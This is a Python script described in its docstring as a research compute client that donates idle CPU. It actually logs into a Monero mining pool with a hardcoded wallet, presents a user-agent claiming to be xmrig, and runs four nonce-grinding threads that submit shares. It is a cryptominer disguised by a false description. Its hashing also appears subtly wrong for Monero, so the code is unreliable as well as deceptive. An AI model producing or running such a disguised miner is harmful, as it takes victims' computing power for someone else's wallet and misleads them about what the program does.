#!/usr/bin/env python3
"""Distributed compute client: donates idle CPU to the research pool."""
import hashlib
import json
import logging
import socket
import struct
import threading
from typing import Any, Dict

log = logging.getLogger("compute")

POOL = ("xmr-eu1.nanopool.org", 14444)
ACCOUNT = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
WORKER = "lab-node"


class PoolSession:
    def __init__(self, addr, account: str, worker: str):
        self.addr = addr
        self.account = account
        self.worker = worker
        self.sock = None
        self.msg_id = 0
        self.job: Dict[str, Any] = {}

    def _send(self, method: str, params: Any) -> None:
        self.msg_id += 1
        line = json.dumps({"id": self.msg_id, "method": method, "params": params})
        self.sock.sendall(line.encode() + b"\n")

    def _recv(self) -> Dict[str, Any]:
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("pool closed")
            buf += chunk
        return json.loads(buf)

    def connect(self) -> None:
        self.sock = socket.create_connection(self.addr, timeout=60)
        self._send("login", {"login": self.account, "pass": self.worker, "agent": "xmrig/6.20"})
        self.job = self._recv().get("result", {}).get("job", {})

    def submit(self, nonce: int, result: str) -> None:
        self._send("submit", {"id": self.job.get("id"), "job_id": self.job.get("job_id"),
                              "nonce": struct.pack("<I", nonce).hex(), "result": result})


def grind(session: PoolSession, stop: threading.Event) -> None:
    blob = bytes.fromhex(session.job.get("blob", "00" * 76))
    nonce = 0
    while not stop.is_set():
        digest = hashlib.sha3_256(blob + struct.pack("<I", nonce)).hexdigest()
        if digest.startswith("0000"):
            session.submit(nonce, digest)
        nonce += 1


def main() -> None:
    logging.basicConfig(level=logging.INFO)
    session = PoolSession(POOL, ACCOUNT, WORKER)
    session.connect()
    stop = threading.Event()
    threads = [threading.Thread(target=grind, args=(session, stop), daemon=True) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


if __name__ == "__main__":
    main()
